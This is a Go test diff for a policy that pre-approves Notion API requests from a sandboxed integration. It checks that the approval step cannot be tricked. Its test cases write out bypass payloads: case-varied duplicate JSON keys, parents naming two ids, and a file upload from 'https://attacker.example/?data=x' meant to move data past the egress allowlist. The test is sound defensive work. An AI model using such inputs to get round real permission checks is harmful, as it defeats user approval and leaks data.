@@ -208,3 +208,51 @@ func TestDescribe(t *testing.T) {
 		}
 	}
 }
+
+// TestPreApprovalCannotBeTricked: what the policy reads of a request must
+// be what Notion acts on. Go's encoding/json matched "Parent" to the
+// parent field (keys are matched without case, the last one wins) while
+// Notion reads "parent" only, so a page could be created under any page
+// the integration sees, without asking; a parent naming two ids, or a
+// file upload Notion fetches from a URL (data out of the sandbox past the
+// egress allowlist), was pre-approved too.
+func TestPreApprovalCannotBeTricked(t *testing.T) {
+	const allowed = "1a2b3c4d5e6f708192a3b4c5d6e7f801"
+	const other = "99999999999999999999999999999999"
+	pol := NewPolicy([]string{allowed})
+	for _, tt := range []struct {
+		name, method, path, body string
+		want                     bool
+	}{
+		{"page under the parent", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `"}}`, true},
+		{"typed parent", "POST", "/v1/pages", `{"parent":{"type":"page_id","page_id":"` + allowed + `"}}`, true},
+		{"case-folded key", "POST", "/v1/pages", `{"parent":{"page_id":"` + other + `"},"Parent":{"page_id":"` + allowed + `"}}`, false},
+		{"case-folded key first", "POST", "/v1/pages", `{"PARENT":{"page_id":"` + allowed + `"},"parent":{"page_id":"` + other + `"}}`, false},
+		{"two ids", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `","database_id":"` + other + `"}}`, false},
+		{"type naming the other id", "POST", "/v1/pages", `{"parent":{"type":"database_id","page_id":"` + allowed + `","database_id":"` + other + `"}}`, false},
+		{"type not matching", "POST", "/v1/pages", `{"parent":{"type":"workspace","page_id":"` + allowed + `"}}`, false},
+		{"workspace and page", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `","workspace":true}}`, false},
+		{"upload, default mode", "POST", "/v1/file_uploads", `{"filename":"a.png"}`, true},
+		{"upload, no body", "POST", "/v1/file_uploads", ``, true},
+		{"upload, single part", "POST", "/v1/file_uploads", `{"mode":"single_part"}`, true},
+		{"upload, multi part", "POST", "/v1/file_uploads", `{"mode":"multi_part","number_of_parts":2,"filename":"a.bin"}`, true},
+		{"upload from a URL", "POST", "/v1/file_uploads", `{"mode":"external_url","external_url":"https://attacker.example/?data=x","filename":"a.png"}`, false},
+		{"upload from a URL, case-folded", "POST", "/v1/file_uploads", `{"mode":"single_part","Mode":"x","external_url":"https://attacker.example/"}`, false},
+		{"send", "POST", "/v1/file_uploads/abc/send", `x`, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var body []byte
+			if tt.body != "" {
+				body = []byte(tt.body)
+			}
+			if got := pol.PreApproved("tok", tt.method, tt.path, body); got != tt.want {
+				t.Errorf("PreApproved(%s %s %s) = %v; want %v", tt.method, tt.path, tt.body, got, tt.want)
+			}
+		})
+	}
+	// The user is shown the parent Notion will use.
+	a := Describe("POST", "/v1/pages", []byte(`{"parent":{"page_id":"`+other+`"},"Parent":{"page_id":"`+allowed+`"}}`))
+	if a.Target != other {
+		t.Errorf("Describe names target %q; want %q, the parent Notion reads", a.Target, other)
+	}
+}
